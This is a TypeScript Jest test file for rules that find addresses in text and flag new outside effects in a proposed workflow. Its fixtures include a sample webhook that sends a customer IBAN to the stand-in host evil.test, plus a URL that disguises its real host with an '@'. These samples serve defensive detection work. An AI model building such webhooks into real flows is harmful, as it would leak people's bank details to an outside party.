// Which addresses a proposal may name, and what of it is shown as going outside.
import { describe, expect, test } from '@jest/globals';
import { findNewAddresses, findOutsideEffects, readAddresses } from './outside.rules.ts';

const flow = (...nodes: { id: string; [member: string]: unknown }[]) => ({ nodes, edges: [] });

describe('an address', () => {
  test.each<[string, string[]]>([
    ['https://API.example.com/orders?id={{ id }}', ['api.example.com']],
    ['https://api.example.com@evil.test/x', ['api.example.com@evil.test']],
    ['https://{{ host }}/x', ['{{']],
    ['secret://crm', ['secret://crm']],
    ['Visit shop.example.com today', ['shop.example.com']],
    ['www.example.com', ['www.example.com']],
    ['found.state', []],
    ['Write to Ada.L@example.co.uk.', ['ada.l@example.co.uk']],
    ['sip:desk@10.0.0.1', ['sip:desk@10.0.0.1']],
    ['tel:110', ['tel:110']],
    ['Call 030 / 123 45-67', ['0301234567']],
    ['+49 (30) 1234567', ['49301234567']],
    ['2026-11-28', []],
    ['from 8 to 18, on 24.12.2026', []],
    ['For {{ guests }} at {{ time.start }}', []],
  ])('%s', (text, found) => {
    expect(readAddresses(text)).toEqual(found);
  });

  test('of the instruction or the draft is known, any other is not', () => {
    const proposed = flow(
      { id: 'tell', type: 'webhook', url: 'https://hooks.example.com/new' },
      { id: 'leak', type: 'webhook', url: 'https://evil.test/?q={{ iban }}' },
      { id: 'say', type: 'message', text: 'Call 0900 123456.' },
    );
    const found = findNewAddresses(['Tell hooks.example.com when it ends'], proposed);
    expect(found).toEqual([
      { node_id: 'leak', address: 'evil.test' },
      { node_id: 'say', address: '0900123456' },
    ]);
  });
});

describe('what goes outside', () => {
  const draft = flow(
    { id: 'hook', type: 'webhook', url: 'https://a.example.com/', payload: { name: '{{ name }}' } },
    { id: 'book', type: 'tool', tool: 'book_slot', args: {} },
  );

  test('is nothing where nothing changed', () => {
    expect(findOutsideEffects(draft, draft)).toEqual([]);
    expect(findOutsideEffects(draft, flow({ ...draft.nodes[0]!, label: 'Tell' }, draft.nodes[1]!))).toEqual(
      [],
    );
  });

  test('is each new address, action, target and call, and what is sent to a known address', () => {
    const proposed = flow(
      { ...draft.nodes[0]!, payload: { iban: '{{ iban }}' } },
      { id: 'book', type: 'tool', tool: 'cancel_slot', args: {} },
      { id: 'desk', type: 'handoff', target: 'desk' },
      { id: 'helper', type: 'agent', tool_dispatch: { find: { url: 'https://b.example.com/find' } } },
      { id: 'free', type: 'autonomous', context_vars: ['iban'] },
      { id: 'other', type: 'branch', call: { flow_id: 'payments' } },
      { id: 'say', type: 'message', text: 'See www.example.com for more' },
    );
    expect(findOutsideEffects(draft, proposed)).toEqual([
      { node_id: 'hook', kind: 'webhook', to: 'https://a.example.com/', change: 'changed' },
      { node_id: 'book', kind: 'action', to: 'cancel_slot', change: 'changed' },
      { node_id: 'desk', kind: 'handoff', to: 'desk', change: 'added' },
      { node_id: 'helper', kind: 'agent', to: 'https://b.example.com/find', change: 'added' },
      { node_id: 'free', kind: 'agent', to: 'the model of the agent', change: 'added' },
      { node_id: 'other', kind: 'flow', to: 'payments', change: 'added' },
      { node_id: 'say', kind: 'text', to: 'www.example.com', change: 'added' },
    ]);
  });
});
